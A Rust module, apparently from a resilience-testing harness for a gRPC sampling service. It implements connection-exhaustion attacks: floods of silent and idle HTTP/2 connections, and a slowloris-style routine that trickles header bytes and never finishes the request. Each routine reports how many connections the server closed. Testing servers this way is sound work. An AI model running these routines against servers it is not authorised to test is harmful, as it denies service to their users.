//! Connections that say little or nothing.

use std::time::Duration;

use tokio::time::sleep;

use crate::attack::kind::{Target, hold};
use crate::attack::peer::Peer;
use crate::attack::wire::{END_HEADERS, frame, headers, kind};

/// Connections that say nothing; more than the 256 descriptors that such a server may be given.
const SILENT: usize = 1000;

/// Connections that ask nothing.
const IDLE: usize = 1000;

/// Connections with unfinished headers.
const SLOW: usize = 500;

/// A stream's window: the default of RFC 9113.
const WINDOW: u32 = 65_535;

/// Connects and says nothing.
pub(crate) async fn silent(target: Target) -> String {
    let mut peers = Vec::new();
    for number in 0..SILENT {
        // A server that takes no more is what the attacker wants.
        peers.extend(Peer::silent(target.server, target.source(number)).await);
        if !target.lasts() {
            break;
        }
    }
    hold(&target).await;
    still_open("silent connections", peers)
}

/// Opens HTTP/2 and asks nothing.
pub(crate) async fn idle(target: Target) -> String {
    let mut peers = Vec::new();
    for number in 0..IDLE {
        peers.extend(Peer::open(target.server, target.source(number), WINDOW).await);
        if !target.lasts() {
            break;
        }
    }
    hold(&target).await;
    still_open("idle connections", peers)
}

/// Sends a header block one byte at a time, and never its last.
pub(crate) async fn slow_headers(target: Target) -> String {
    let mut peers = Vec::new();
    for number in 0..SLOW {
        peers.extend(Peer::open(target.server, target.source(number), WINDOW).await);
    }
    let block = headers("/ddpm.v1.SamplingService/Generate", &[]);
    let bytes = frame(kind::HEADERS, END_HEADERS, 1, &block);
    for byte in &bytes[..bytes.len() - 1] {
        if !target.lasts() {
            break;
        }
        for peer in &mut peers {
            // A connection that the server has closed is counted at the end.
            let _ = peer.send(&[*byte]).await;
        }
        sleep(Duration::from_millis(50)).await;
    }
    hold(&target).await;
    still_open("connections with unfinished headers", peers)
}

/// Counts the connections that the server has not closed.
fn still_open(what: &str, mut peers: Vec<Peer>) -> String {
    let made = peers.len();
    let open = peers.iter_mut().filter_map(|peer| peer.drain().ok()).count();
    format!("{made} {what}, {open} still open at the end")
}
